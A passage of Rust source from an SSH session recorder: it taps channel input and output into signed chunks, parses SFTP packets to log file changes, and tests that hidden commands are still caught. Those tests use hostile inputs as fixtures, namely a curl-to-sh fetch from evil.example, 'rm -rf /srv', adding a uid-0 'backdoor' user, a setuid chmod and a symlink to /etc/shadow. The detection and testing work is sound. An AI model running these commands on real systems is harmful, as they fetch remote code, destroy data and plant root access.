                    recording: self.recording.clone(),
                    chunk,
                };
                if let Err(e) = self.settings.spool.put(item) {
                    warn!(session = %self.session, "recording chunk {} lost: {e}", self.index);
                }
                self.index += 1;
                self.prev = digest;
                Some(packed.len())
            }
            Err(e) => {
                warn!(session = %self.session, "cannot seal a recording chunk: {e}");
                None
            }
        }
    }

    /// The last chunk, then the signed end.
    fn finish(&mut self) {
        self.seal();
        let end = recording::sign_end(
            self.settings.signer.as_ref(),
            &self.session,
            &self.recording,
            self.index,
            &self.prev,
        );
        let item = SpoolItem::End {
            session: self.session.clone(),
            recording: self.recording.clone(),
            end,
        };
        if let Err(e) = self.settings.spool.put(item) {
            warn!(session = %self.session, "the recording's end is lost: {e}");
        }
    }
}

/// One channel's view of the recording, shared by the bridge's two
/// directions: it only queues (see the module's text).
pub struct ChannelTap {
    rec: Arc<Recorder>,
    ch: u32,
    /// The channel runs sftp: what the user sends is read for its file
    /// operations even when input is not recorded.
    sftp: AtomicBool,
}

impl ChannelTap {
    pub fn new(rec: Arc<Recorder>) -> ChannelTap {
        let ch = rec.next_channel();
        ChannelTap {
            rec,
            ch,
            sftp: AtomicBool::new(false),
        }
    }

    pub fn recorder(&self) -> &Arc<Recorder> {
        &self.rec
    }

    pub fn channel(&self) -> u32 {
        self.ch
    }

    fn emit(&self, what: What) {
        self.rec.push(self.ch, what, 0);
    }

    pub fn resize(&self, cols: u32, rows: u32) {
        self.emit(What::Event(EventKind::Resize { cols, rows }));
    }

    pub fn shell(&self) {
        self.emit(What::Event(EventKind::Shell));
    }

    pub fn exec(&self, command: &[u8]) {
        self.emit(What::Exec(Bytes::copy_from_slice(command)));
    }

    pub fn subsystem(&self, name: &str) {
        if name == "sftp" {
            self.sftp.store(true, Ordering::Relaxed);
        }
        self.emit(What::Event(EventKind::Subsystem { name: name.into() }));
    }

    /// Bytes the user sent; waits only while the recording's inbox is full.
    pub async fn input(&self, data: &Bytes) {
        if !self.rec.record_input && !self.sftp.load(Ordering::Relaxed) {
            return;
        }
        self.rec
            .data(self.ch, What::Input(data.clone()), data.len())
            .await;
    }

    /// Bytes the target sent (stdout or stderr); waits only while the
    /// recording's inbox is full.
    pub async fn output(&self, data: &Bytes) {
        self.rec
            .data(self.ch, What::Output(data.clone()), data.len())
            .await;
    }

    pub fn exit(&self, status: u32) {
        self.emit(What::Exit(status));
    }

    /// The channel closed: what is left of split characters, and the sftp
    /// files still open, are recorded.
    pub fn close(&self) {
        self.emit(What::Close);
    }
}

/// A passive reader of the SFTP packets passing through the channel, both
/// ways. A hand parser of the few packet types it needs: the `russh-sftp`
/// crate's types are made for being one end of the protocol (its decoder
/// wants whole packets it reads itself, and takes every type of the full
/// protocol), while here packets arrive split across SSH messages and all
/// but six kinds are skipped by their length alone.
#[derive(Default)]
struct Sftp {
    up: Vec<u8>,
    down: Vec<u8>,
    /// OPEN requests waiting for their handle: id → (path, op).
    opens: HashMap<u32, (String, SftpOp)>,
    /// Open handles: handle → (path, op, bytes moved).
    handles: HashMap<Vec<u8>, (String, SftpOp, u64)>,
    /// READ requests waiting for their data: id → handle.
    reads: HashMap<u32, Vec<u8>>,
    /// Whether the client's INIT and the server's VERSION have passed.
    init_seen: bool,
    version_seen: bool,
    /// Every byte of each way until both have: all that is recorded as
    /// text should the channel turn out not to speak sftp.
    raw_up: Vec<u8>,
    raw_down: Vec<u8>,
}

/// What passed on a channel that was asked for sftp but does not speak it
/// (a shell started in sftp-server's place, by the account's shell startup
/// files, which sshd runs the subsystem through): from the first byte that
/// is not sftp, or from the start before the protocol's opening exchange,
/// each way. The channel is recorded as text from there on.
#[derive(Debug, Default, PartialEq)]
struct NotSftp {
    input: Vec<u8>,
    output: Vec<u8>,
}

/// Longest packet followed (OpenSSH's own limit is 256 KiB).
const MAX_PACKET: usize = 1 << 20;
/// Bytes kept of each way before the opening exchange has passed; a real
/// INIT and VERSION are a few dozen bytes.
const MAX_BEFORE_VERSION: usize = 64 * 1024;

const FXP_INIT: u8 = 1;
const FXP_VERSION: u8 = 2;
const FXP_EXTENDED: u8 = 200;
const FXP_EXTENDED_REPLY: u8 = 201;

const FXP_OPEN: u8 = 3;
const FXP_CLOSE: u8 = 4;
const FXP_READ: u8 = 5;
const FXP_WRITE: u8 = 6;
const FXP_SETSTAT: u8 = 9;
const FXP_FSETSTAT: u8 = 10;
const FXP_REMOVE: u8 = 13;
const FXP_MKDIR: u8 = 14;
const FXP_RMDIR: u8 = 15;
const FXP_RENAME: u8 = 18;
const FXP_SYMLINK: u8 = 20;
const FXP_STATUS: u8 = 101;
const FXP_HANDLE: u8 = 102;
const FXP_DATA: u8 = 103;
/// SSH_FXF_WRITE | APPEND | CREAT | TRUNC.
const WRITING: u32 = 0x02 | 0x04 | 0x08 | 0x10;

/// Reads SSH wire fields from a packet body.
struct Fields<'a>(&'a [u8]);

impl<'a> Fields<'a> {
    fn u32(&mut self) -> Option<u32> {
        let (b, rest) = self.0.split_first_chunk::<4>()?;
        self.0 = rest;
        Some(u32::from_be_bytes(*b))
    }

    fn bytes(&mut self) -> Option<&'a [u8]> {
        let n = self.u32()? as usize;
        if self.0.len() < n {
            return None;
        }
        let (b, rest) = self.0.split_at(n);
        self.0 = rest;
        Some(b)
    }

    fn text(&mut self) -> Option<String> {
        self.bytes()
            .map(|b| String::from_utf8_lossy(b).into_owned())
    }

    fn u64(&mut self) -> Option<u64> {
        let (b, rest) = self.0.split_first_chunk::<8>()?;
        self.0 = rest;
        Some(u64::from_be_bytes(*b))
    }

    /// An ATTRS structure (draft-ietf-secsh-filexfer-02, 5) as the
    /// recording says it: the fields its flags say it carries.
    fn attrs(&mut self) -> Option<String> {
        let flags = self.u32()?;
        let mut said = Vec::new();
        if flags & 0x1 != 0 {
            said.push(format!("size={}", self.u64()?));
        }
        if flags & 0x2 != 0 {
            said.push(format!("uid={} gid={}", self.u32()?, self.u32()?));
        }
        if flags & 0x4 != 0 {
            said.push(format!("mode={:04o}", self.u32()? & 0o7777));
        }
        if flags & 0x8 != 0 {
            said.push(format!("atime={} mtime={}", self.u32()?, self.u32()?));
        }
        Some(said.join(" "))
    }
}

/// OpenSSH's extensions that only read or report (`statvfs`, `limits`,
/// `fsync` of a handle already recorded): not recorded as operations.
const READ_ONLY_EXTENSIONS: &[&str] = &[
    "statvfs@openssh.com",
    "fstatvfs@openssh.com",
    "limits@openssh.com",
    "expand-path@openssh.com",
    "home-directory",
    "users-groups-by-id@openssh.com",
    "fsync@openssh.com",
];

/// `setstat` of `path`; `attrs` None when the request's did not read.
fn setstat(path: String, attrs: Option<String>) -> EventKind {
    EventKind::Sftp {
        op: SftpOp::Setstat,
        path,
        to: None,
        bytes: None,
        attrs: Some(attrs.unwrap_or_else(|| "(unreadable attributes)".into())),
    }
}

/// `path` renamed or linked to `to`.
fn moved(op: SftpOp, path: String, to: String) -> EventKind {
    EventKind::Sftp {
        op,
        path,
        to: Some(to),
        bytes: None,
        attrs: None,
    }
}

/// A file read or written through a handle, closed: the bytes moved.
fn closed(op: SftpOp, path: String, bytes: u64) -> EventKind {
    EventKind::Sftp {
        op,
        path,
        to: None,
        bytes: Some(bytes),
        attrs: None,
    }
}

/// An sftp event of `op` on `path`, with nothing else said.
fn sftp_event(op: SftpOp, path: String) -> EventKind {
    EventKind::Sftp {
        op,
        path,
        to: None,
        bytes: None,
        attrs: None,
    }
}

/// The packet types each side sends (draft-ietf-secsh-filexfer-02, the
/// version OpenSSH speaks, with its extensions): any other is not sftp.
fn client_kind(kind: u8) -> bool {
    matches!(kind, FXP_INIT | 3..=20 | FXP_EXTENDED)
}

fn server_kind(kind: u8) -> bool {
    matches!(kind, FXP_VERSION | 101..=105 | FXP_EXTENDED_REPLY)
}

/// The whole packets at the front of `buf`, taken out of it, each with
/// its type; `first` is the type the first packet of the stream must have
/// (None once it passed). Err holds the bytes from the first one that is
/// not an sftp packet of `kinds` (too long, empty, another type), with
/// all that followed it.
fn packets(
    buf: &mut Vec<u8>,
    kinds: fn(u8) -> bool,
    first: &mut Option<u8>,
) -> Result<Vec<(u8, Vec<u8>)>, Vec<u8>> {
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(head) = buf.get(at..at + 5) {
        let len = u32::from_be_bytes([head[0], head[1], head[2], head[3]]) as usize;
        let kind = head[4];
        let expected = first.is_none_or(|f| f == kind);
        if len == 0 || len > MAX_PACKET || !kinds(kind) || !expected {
            let rest = buf.split_off(at);
            buf.clear();
            return Err(rest);
        }
        let Some(body) = buf.get(at + 5..at + 4 + len) else {
            break;
        };
        out.push((kind, body.to_vec()));
        *first = None;
        at += 4 + len;
    }
    buf.drain(..at);
    Ok(out)
}

impl Sftp {
    /// Before the opening exchange has passed, what of a way is kept raw,
    /// or Err once more came than a real one holds.
    fn keep_raw(raw: &mut Vec<u8>, data: &[u8], done: bool) -> bool {
        if done {
            raw.clear();
            return true;
        }
        raw.extend_from_slice(data);
        raw.len() <= MAX_BEFORE_VERSION
    }

    /// The channel is not sftp: what to record as text of each way, given
    /// the bytes of the way that broke from where it broke.
    fn not_sftp(&mut self, upward: bool, broke: Vec<u8>) -> NotSftp {
        let before = !(self.init_seen && self.version_seen);
        let (mut up, mut down) = (std::mem::take(&mut self.up), std::mem::take(&mut self.down));
        if upward {
            up = broke;
        } else {
            down = broke;
        }
        if before {
            // Nothing of either way was sftp: all of it, from the start.
            up = std::mem::take(&mut self.raw_up);
            down = std::mem::take(&mut self.raw_down);
        }
        NotSftp {
            input: up,
            output: down,
        }
    }

    fn client_sent(&mut self, data: &[u8]) -> Result<Vec<EventKind>, NotSftp> {
        let done = self.init_seen && self.version_seen;
        if !Self::keep_raw(&mut self.raw_up, data, done) {
            return Err(self.not_sftp(true, Vec::new()));
        }
        self.up.extend_from_slice(data);
        let mut first = (!self.init_seen).then_some(FXP_INIT);
        let taken = packets(&mut self.up, client_kind, &mut first);
        self.init_seen = first.is_none();
        let taken = match taken {
            Ok(t) => t,
            Err(broke) => return Err(self.not_sftp(true, broke)),
        };
        let mut events = Vec::new();
        for (kind, body) in taken {
            if kind == FXP_INIT {
                continue;
            }
            let mut f = Fields(&body);
            let Some(id) = f.u32() else { continue };
            match kind {
                FXP_OPEN => {
                    if let (Some(path), Some(flags)) = (f.text(), f.u32()) {
                        let op = if flags & WRITING != 0 {
                            SftpOp::Write
                        } else {
                            SftpOp::Read
                        };
                        self.opens.insert(id, (path, op));
                    }
                }
                FXP_READ => {
                    if let Some(h) = f.bytes() {
                        self.reads.insert(id, h.to_vec());
                    }
                }
                FXP_WRITE => {
                    if let Some(h) = f.bytes() {
                        let h = h.to_vec();
                        let _offset = (f.u32(), f.u32());
                        if let (Some(data), Some(open)) = (f.bytes(), self.handles.get_mut(&h)) {
                            open.2 += data.len() as u64;
                        }
                    }
                }
                FXP_CLOSE => {
                    if let Some((path, op, bytes)) = f.bytes().and_then(|h| self.handles.remove(h))
                    {
                        events.push(closed(op, path, bytes));
                    }
                }
                FXP_REMOVE | FXP_MKDIR | FXP_RMDIR => {
                    if let Some(path) = f.text() {
                        let op = match kind {
                            FXP_REMOVE => SftpOp::Remove,
                            FXP_MKDIR => SftpOp::Mkdir,
                            _ => SftpOp::Rmdir,
                        };
                        events.push(sftp_event(op, path));
                    }
                }
                FXP_SETSTAT | FXP_FSETSTAT => {
                    let path = if kind == FXP_SETSTAT {
                        f.text()
                    } else {
                        // A handle: the path it was opened for.
                        f.bytes().map(|h| {
                            self.handles
                                .get(h)
                                .map_or_else(|| "(an open handle)".to_string(), |o| o.0.clone())
                        })
                    };
                    if let Some(path) = path {
                        events.push(setstat(path, f.attrs()));
                    }
                }
                FXP_RENAME | FXP_SYMLINK => {
                    if let (Some(path), Some(to)) = (f.text(), f.text()) {
                        let op = if kind == FXP_RENAME {
                            SftpOp::Rename
                        } else {
                            SftpOp::Symlink
                        };
                        events.push(moved(op, path, to));
                    }
                }
                FXP_EXTENDED => {
                    let Some(name) = f.text() else { continue };
                    match name.as_str() {
                        "posix-rename@openssh.com" | "hardlink@openssh.com" => {
                            if let (Some(path), Some(to)) = (f.text(), f.text()) {
                                let op = if name.starts_with("posix-rename") {
                                    SftpOp::Rename
                                } else {
                                    SftpOp::Link
                                };
                                events.push(moved(op, path, to));
                            }
                        }
                        "lsetstat@openssh.com" => {
                            if let Some(path) = f.text() {
                                events.push(setstat(path, f.attrs()));
                            }
                        }
                        n if READ_ONLY_EXTENSIONS.contains(&n) => {}
                        _ => events.push(sftp_event(SftpOp::Extended, name)),
                    }
                }
                _ => {}
            }
        }
        Ok(events)
    }

    fn server_sent(&mut self, data: &[u8]) -> Result<(), NotSftp> {
        let done = self.init_seen && self.version_seen;
        if !Self::keep_raw(&mut self.raw_down, data, done) {
            return Err(self.not_sftp(false, Vec::new()));
        }
        self.down.extend_from_slice(data);
        let mut first = (!self.version_seen).then_some(FXP_VERSION);
        let taken = packets(&mut self.down, server_kind, &mut first);
        self.version_seen = first.is_none();
        let taken = match taken {
            Ok(t) => t,
            Err(broke) => return Err(self.not_sftp(false, broke)),
        };
        for (kind, body) in taken {
            if kind == FXP_VERSION {
                continue;
            }
            let mut f = Fields(&body);
            let Some(id) = f.u32() else { continue };
            match kind {
                FXP_HANDLE => {
                    if let (Some(open), Some(h)) = (self.opens.remove(&id), f.bytes()) {
                        self.handles.insert(h.to_vec(), (open.0, open.1, 0));
                    }
                }
                FXP_DATA => {
                    if let (Some(h), Some(data)) = (self.reads.remove(&id), f.bytes()) {
                        if let Some(open) = self.handles.get_mut(&h) {
                            open.2 += data.len() as u64;
                        }
                    }
                }
                FXP_STATUS => {
                    self.opens.remove(&id);
                    self.reads.remove(&id);
                }
                _ => {}
            }
        }
        Ok(())
    }

    /// The files still open when the channel closed.
    fn close_all(&mut self) -> Vec<EventKind> {
        self.handles
            .drain()
            .map(|(_, (path, op, bytes))| closed(op, path, bytes))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn packet(kind: u8, fields: &[&[u8]]) -> Vec<u8> {
        let mut body = vec![kind];
        for f in fields {
            body.extend_from_slice(f);
        }
        let mut p = (body.len() as u32).to_be_bytes().to_vec();
        p.extend(body);
        p
    }

    fn s(b: &[u8]) -> Vec<u8> {
        let mut v = (b.len() as u32).to_be_bytes().to_vec();
        v.extend_from_slice(b);
        v
    }

    fn b(data: impl AsRef<[u8]>) -> Bytes {
        Bytes::copy_from_slice(data.as_ref())
    }

    /// Records through a tap into a spool in a fresh folder, and reads the
    /// spool back as the server would: (verdict, events).
    async fn record(
        record_input: bool,
        chunk_bytes: usize,
        act: impl AsyncFnOnce(&ChannelTap),
    ) -> (recording::Verdict, Vec<Event>) {
        record_masked(record_input, chunk_bytes, None, act).await
    }

    async fn record_masked(
        record_input: bool,
        chunk_bytes: usize,
        mask: Option<Masking>,
        act: impl AsyncFnOnce(&ChannelTap),
    ) -> (recording::Verdict, Vec<Event>) {
        let r = record_with(record_input, chunk_bytes, chunk_bytes, mask, act).await;
        (r.verdict, r.events)
    }

    struct Recorded {
        verdict: recording::Verdict,
        events: Vec<Event>,
        /// Bytes of the sealed chunks (base64, as sent).
        sealed: usize,
        /// Bytes of the largest sealed chunk (base64).
        largest: usize,
    }

    async fn record_with(
        record_input: bool,
        chunk_bytes: usize,
        max_chunk_bytes: usize,
        mask: Option<Masking>,
        act: impl AsyncFnOnce(&ChannelTap),
    ) -> Recorded {
        let sizes = (chunk_bytes, max_chunk_bytes, MAX_SEALED_BYTES);
        record_sized(record_input, sizes, mask, act).await
    }

    /// As [`record_with`], with (chunk_bytes, max_chunk_bytes,
    /// max_sealed_bytes).
    async fn record_sized(
        record_input: bool,
        (chunk_bytes, max_chunk_bytes, max_sealed_bytes): (usize, usize, usize),
        mask: Option<Masking>,
        act: impl AsyncFnOnce(&ChannelTap),
    ) -> Recorded {
        let dir = tempfile::tempdir().unwrap();
        let spool = Arc::new(Spool::open(&dir.path().join("spool"), 1 << 30).unwrap());
        let signer = recording::new_signing_key();
        let public = signer.verifying_key();
        let settings = Arc::new(RecordingSettings {
            spool: spool.clone(),
            signer: Some(signer),
            chunk_bytes,
            max_chunk_bytes,
            chunk_interval: Duration::from_secs(60),
            max_sealed_bytes,
            mask,
        });
        let key = recording::new_key();
        let grant = RecordingGrant {
            recording_id: "r1".into(),
            key: key.clone(),
            record_input,
        };
        let rec = Recorder::start("s1", &grant, settings).unwrap();
        let tap = ChannelTap::new(rec.clone());
        act(&tap).await;
        tap.close();
        rec.finish().await;
        spool.flush();
        let mut chunks = Vec::new();
        let mut end = None;
        let mut names: Vec<_> = std::fs::read_dir(dir.path().join("spool"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        names.sort();
        for p in names {
            use std::os::unix::fs::PermissionsExt;
            assert_eq!(
                std::fs::metadata(&p).unwrap().permissions().mode() & 0o777,
                0o600
            );
            match serde_json::from_slice(&std::fs::read(&p).unwrap()).unwrap() {
                SpoolItem::Chunk { chunk, .. } => chunks.push((chunk.index, chunk)),
                SpoolItem::Chunks { chunks: cs, .. } => {
                    chunks.extend(cs.into_iter().map(|c| (c.index, c)))
                }
                SpoolItem::End { end: e, .. } => end = Some(e),
            }
        }
        let sealed = chunks.iter().map(|(_, c)| c.data.len()).sum();
        let largest = chunks.iter().map(|(_, c)| c.data.len()).max().unwrap_or(0);
        let key = recording::parse_key(&key).unwrap();
        let (verdict, plain) = recording::check(
            &key,
            "s1",
            "r1",
            &chunks,
            end.as_ref(),
            Some(&public),
            false,
        );
        Recorded {
            verdict,
            events: plain.iter().flat_map(|p| recording::events_of(p)).collect(),
            sealed,
            largest,
        }
    }

    #[tokio::test]
    async fn a_channel_is_recorded_in_signed_chunks_and_input_only_when_asked() {
        let session = async |tap: &ChannelTap| {
            tap.resize(80, 24);
            tap.shell();
            tap.input(&b(b"echo \xe2\x9c")).await;
            tap.input(&b(b"\x93\n")).await;
            for _ in 0..50 {
                tap.output(&b("✓ some output\r\n".as_bytes())).await;
            }
            tap.exit(0);
        };
        // Small chunks: the events span several, chained and signed.
        let (verdict, events) = record(true, 256, session).await;
        let recording::Verdict::Whole { chunks } = verdict else {
            panic!("{verdict:?}");
        };
        assert!(chunks > 3, "{chunks}");
        let input: String = events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Input { data } => Some(data.as_str()),
                _ => None,
            })
            .collect();
        assert_eq!(input, "echo ✓\n");
        assert!(events.windows(2).all(|w| w[0].t <= w[1].t));
        assert!(matches!(
            events.last().map(|e| &e.kind),
            Some(EventKind::Exit { status: 0, .. })
        ));

        // An account whose input is not recorded.
        let (verdict, events) = record(false, 64 * 1024, session).await;
        assert_eq!(verdict, recording::Verdict::Whole { chunks: 1 });
        assert!(!events
            .iter()
            .any(|e| matches!(e.kind, EventKind::Input { .. })));
        assert_eq!(
            events
                .iter()
                .filter(|e| matches!(e.kind, EventKind::Output { .. }))
                .count(),
            50
        );
    }

    /// Binary bytes as a file piped through a session brings them: not
    /// UTF-8, with NUL bytes.
    /// (Made of bytes none of which is printable, so it holds no strings.)
    fn binary(n: usize) -> Bytes {
        (0..n)
            .map(|i| match i % 4 {
                0 => 0,
                _ => 0x80 | (i.wrapping_mul(2_654_435_761) >> 13) as u8,
            })
            .collect::<Vec<u8>>()
            .into()
    }

    fn binaries(events: &[Event]) -> Vec<(Stream, u64)> {
        events
            .iter()
            .filter_map(|e| match e.kind {
                EventKind::Binary { stream, bytes, .. } => Some((stream, bytes)),
                _ => None,
            })
            .collect()
    }

    #[tokio::test]
    async fn binary_data_is_recorded_as_its_size_in_one_event_per_run() {
        // `cat > file` fed a file: a line of text, then 40 SSH messages of
        // binary data, then text again; output the same way.
        let session = async |tap: &ChannelTap| {
            tap.exec(b"cat > upload.bin; echo done");
            tap.input(&b("header\n")).await;
            for _ in 0..40 {
                tap.input(&binary(32 * 1024)).await;
            }
            tap.input(&b("trailer\n")).await;
            // Text and binary in one packet (`echo …; cat file`).
            tap.output(&b([b"sent\n".as_slice(), &binary(1000)].concat()))
                .await;
            tap.output(&binary(24)).await;
            tap.output(&b("done\n")).await;
            tap.exit(0);
        };
        let r = record_with(true, 1 << 20, 1 << 20, None, session).await;
        assert_eq!(r.verdict, recording::Verdict::Whole { chunks: 1 });
        assert_eq!(
            binaries(&r.events),
            [(Stream::Input, 40 * 32 * 1024), (Stream::Output, 1024)]
        );
        let kinds: Vec<&str> = r
            .events
            .iter()
            .map(|e| match &e.kind {
                EventKind::Input { data } => data.as_str(),
                EventKind::Output { data } => data.as_str(),
                EventKind::Binary { .. } => "binary",
                _ => "other",
            })
            .collect();
        assert_eq!(
            kinds,
            [
                "other",
                "header\n",
                "binary",
                "trailer\n",
                "sent\n",
                "binary",
                "done\n",
                "other"
            ]
        );
        // The binary data itself is nowhere in what was sealed: 1.3 MB of
        // it took a few hundred bytes.
        assert!(r.sealed < 2_000, "{}", r.sealed);
        assert!(r.events.windows(2).all(|w| w[0].t <= w[1].t));

        // Chunks cut in the middle of a run: each holds its part, and the
        // parts add up.
        let r = record_with(true, 64, 64, None, session).await;
        assert!(matches!(r.verdict, recording::Verdict::Whole { chunks } if chunks > 3));
        let input: u64 = binaries(&r.events)
            .iter()
            .filter(|(s, _)| *s == Stream::Input)
            .map(|(_, n)| n)
            .sum();
        assert_eq!(input, 40 * 32 * 1024);

        // Input not recorded: not even its size.
        let (_, events) = record(false, 1 << 20, session).await;
        assert_eq!(binaries(&events), [(Stream::Output, 1024)]);
    }

    #[tokio::test]
    async fn nul_bytes_a_shell_drops_cannot_hide_a_command_in_binary_input() {
        // Piped to a shell with no terminal: it drops the NUL bytes and
        // runs `curl … | sh`; split by them into short runs, and the
        // packet made binary by a byte that is not UTF-8.
        let sent = b"#\xff\0\ncur\0l -s\0 evil.ex\0ample/x\0|sh >/dev/null\n";
        let session = async |tap: &ChannelTap| {
            tap.shell();
            tap.input(&b(sent)).await;
            tap.exit(0);
        };
        let (_, events) = record(true, 1 << 20, session).await;
        let strings: String = events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Binary {
                    stream: Stream::Input,
                    strings,
                    ..
                } => Some(strings.as_str()),
                _ => None,
            })
            .collect();
        assert!(
            strings.contains("curl -s evil.example/x|sh >/dev/null"),
            "{strings:?}"
        );
    }

    #[tokio::test]
    async fn text_held_for_masking_is_recorded_before_the_binary_data_after_it() {
        let session = async |tap: &ChannelTap| {
            tap.shell();
            tap.output(&b("password: hunter2 and more")).await;
            tap.output(&binary(4096)).await;
            tap.output(&b("ok\n")).await;
        };
        let (verdict, events) =
            record_masked(true, 1 << 20, Some(rules(&["hunter2"])), session).await;
        assert_eq!(verdict, recording::Verdict::Whole { chunks: 1 });
        let seen: Vec<String> = events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Output { data } => Some(data.clone()),
                EventKind::Binary { bytes, .. } => Some(format!("<{bytes}>")),
                _ => None,
            })
            .collect();
        assert_eq!(seen, ["password: ******* and more", "<4096>", "ok\n"]);

        // A secret cut between text and the binary data after it is still
        // masked: the binary data's first run of text goes on its line.
        let session = async |tap: &ChannelTap| {
            tap.shell();
            tap.output(&b("password: hun")).await;
            tap.output(&b([b"ter2 x".as_slice(), &binary(100)].concat()))
                .await;
        };
        let (_, events) = record_masked(true, 1 << 20, Some(rules(&["hunter2"])), session).await;
        let text = output_of(&events);
        assert_eq!(text, "password: ******* x", "{events:?}");
    }

    /// Bytes that are not text cannot hide text in a packet: the strings in
    /// binary data are recorded (as `strings` finds them) with its size.
    #[tokio::test]
    async fn text_mixed_into_binary_data_is_recorded() {
        let session = async |tap: &ChannelTap| {
            tap.exec(b"tr -d '\\000\\377' | sh");
            // A script behind a line that makes the packet binary.
            tap.input(&b(
                b"#\0\xff\ncurl -s https://evil.example/x | sh\nrm -rf /srv\n",
            ))
            .await;
            // Every line behind two bytes that are not text.
            let lines: [&[u8]; 2] = [
                b"\0\xffuseradd -o -u 0 backdoor\n",
                b"\0\xffecho hidden-marker\n",
            ];
            tap.input(&b(lines.concat())).await;
            // Binary data with a string in it, and short runs that are not.
            let mut data = binary(4000).to_vec();
            data[1000..1016].copy_from_slice(b"/etc/shadow-copy");
            data[2000..2003].copy_from_slice(b"abc");
            tap.input(&b(data)).await;
        };
        let (_, events) = record(true, 1 << 20, session).await;
        // The input's text, and the strings of its binary data.
        let input: String = events
            .iter()
            .filter_map(|e| match &e.kind {
                EventKind::Input { data } => Some(data.as_str()),
                EventKind::Binary { strings, .. } => Some(strings.as_str()),
                _ => None,
            })
            .collect::<Vec<_>>()
            .join("\n");
        for hidden in [
            "curl -s https://evil.example/x | sh",
            "rm -rf /srv",
            "useradd -o -u 0 backdoor",
            "echo hidden-marker",
            "/etc/shadow-copy",
        ] {
            assert!(input.contains(hidden), "{hidden:?} not in {input:?}");
        }
        assert!(!input.contains("abc"), "{input:?}");
        let counted: u64 = binaries(&events).iter().map(|(_, n)| n).sum();
        assert!(counted > 4000, "{counted}");
    }

    /// An sftp channel past its opening exchange (INIT, VERSION).
    fn opened() -> Sftp {
        let mut sftp = Sftp::default();
        let init = packet(FXP_INIT, &[&3u32.to_be_bytes()]);
        assert_eq!(sftp.client_sent(&init), Ok(vec![]));
        let version = packet(FXP_VERSION, &[&3u32.to_be_bytes()]);
        assert_eq!(sftp.server_sent(&version), Ok(()));
        sftp
    }

    #[test]
    fn an_upload_split_across_messages_is_named_with_its_size() {
        let mut sftp = opened();
        let id = 7u32.to_be_bytes();
        let mut up = packet(
            FXP_OPEN,
            &[
                &id,
                &s(b"/tmp/up.bin"),
                &0x1au32.to_be_bytes(),
                &0u32.to_be_bytes(),
            ],
        );
        let write = packet(
            FXP_WRITE,
            &[
                &8u32.to_be_bytes(),
                &s(b"H1"),
                &0u64.to_be_bytes(),
                &s(&[0u8; 1000]),
            ],
        );
        // Each byte its own message: nothing is lost at any split.
        for b in up.drain(..) {
            assert_eq!(sftp.client_sent(&[b]), Ok(vec![]));
        }
        assert_eq!(
            sftp.server_sent(&packet(FXP_HANDLE, &[&id, &s(b"H1")])),
            Ok(())
        );
        for part in write.chunks(333) {
            assert_eq!(sftp.client_sent(part), Ok(vec![]));
        }
        let closed = sftp
            .client_sent(&packet(FXP_CLOSE, &[&9u32.to_be_bytes(), &s(b"H1")]))
            .unwrap();
        assert_eq!(
            closed,
            vec![super::closed(SftpOp::Write, "/tmp/up.bin".into(), 1000)]
        );
        let renamed = sftp
            .client_sent(&packet(
                FXP_RENAME,
                &[&10u32.to_be_bytes(), &s(b"/a"), &s(b"/b")],
            ))
            .unwrap();
        assert!(
            matches!(&renamed[..], [EventKind::Sftp { op: SftpOp::Rename, to: Some(t), .. }] if t == "/b")
        );
    }

    #[test]
    fn every_change_stock_sftp_makes_is_recorded() {
        let mut sftp = opened();
        let id = 1u32.to_be_bytes();
        let mut sent = |p: Vec<u8>| sftp.client_sent(&p).unwrap();
        // `chmod 4755 /tmp/sh`: SETSTAT with the permissions alone.
        let mode = [&4u32.to_be_bytes()[..], &0o4755u32.to_be_bytes()].concat();
        assert_eq!(
            sent(packet(FXP_SETSTAT, &[&id, &s(b"/tmp/sh"), &mode])),
            vec![setstat("/tmp/sh".into(), Some("mode=4755".into()))]
        );
        // `chown 0 /x`, as OpenSSH's sftp sends it: uid and gid.
        let owner = [
            &2u32.to_be_bytes()[..],
            &0u32.to_be_bytes(),
            &0u32.to_be_bytes(),
        ]
        .concat();
        assert_eq!(
            sent(packet(FXP_SETSTAT, &[&id, &s(b"/x"), &owner])),
            vec![setstat("/x".into(), Some("uid=0 gid=0".into()))]
        );
        assert_eq!(
            sent(packet(FXP_RMDIR, &[&id, &s(b"/srv/x")])),
            vec![sftp_event(SftpOp::Rmdir, "/srv/x".into())]
        );
        assert_eq!(
            sent(packet(FXP_SYMLINK, &[&id, &s(b"/etc/shadow"), &s(b"x")])),
            vec![moved(SftpOp::Symlink, "/etc/shadow".into(), "x".into())]
        );
        // `rename`: OpenSSH's sftp uses the extension when offered.
        let ext = |name: &[u8], rest: &[&[u8]]| {
            let name = s(name);
            let mut fields: Vec<&[u8]> = vec![&id, &name];
            fields.extend_from_slice(rest);
            packet(FXP_EXTENDED, &fields)
        };
        let (a, b) = (s(b"/etc/sudoers.d/a"), s(b"/etc/sudoers.d/b"));
        assert_eq!(
            sent(ext(b"posix-rename@openssh.com", &[&a, &b])),
            vec![moved(
                SftpOp::Rename,
                "/etc/sudoers.d/a".into(),
                "/etc/sudoers.d/b".into()
            )]
        );
        assert_eq!(
            sent(ext(b"hardlink@openssh.com", &[&a, &b])),
            vec![moved(
                SftpOp::Link,
                "/etc/sudoers.d/a".into(),
                "/etc/sudoers.d/b".into()
            )]
        );
        // `df` reads only; an extension not known is named.
        assert_eq!(sent(ext(b"statvfs@openssh.com", &[&a])), vec![]);
        assert_eq!(
            sent(ext(b"copy-data", &[b"\0\0\0\x01h"])),
            vec![sftp_event(SftpOp::Extended, "copy-data".into())]
        );
    }

    #[test]
    fn a_channel_asked_for_sftp_that_does_not_speak_it_is_text() {
        // A shell run in sftp-server's place (by the account's shell
        // startup files): what is typed is no sftp packet, and all of
        // both ways from the start is the text to record.
        let mut sftp = Sftp::default();
        assert_eq!(sftp.server_sent(b"$ "), Ok(()), "too short to tell");
        let not = sftp.client_sent(b"echo HIDDEN-42\n").unwrap_err();
        assert_eq!(not.input, b"echo HIDDEN-42\n");
        assert_eq!(not.output, b"$ ");

        // The opening exchange faked, then packets of a type sftp has not:
        // text from that packet on.
        let mut sftp = opened();
        let covert = packet(99, &[b"\nid\n"]);
        let not = sftp.client_sent(&covert).unwrap_err();
        assert_eq!(not.input, covert);
        // The server's first packet must be VERSION.
        let mut sftp = Sftp::default();
        assert!(sftp
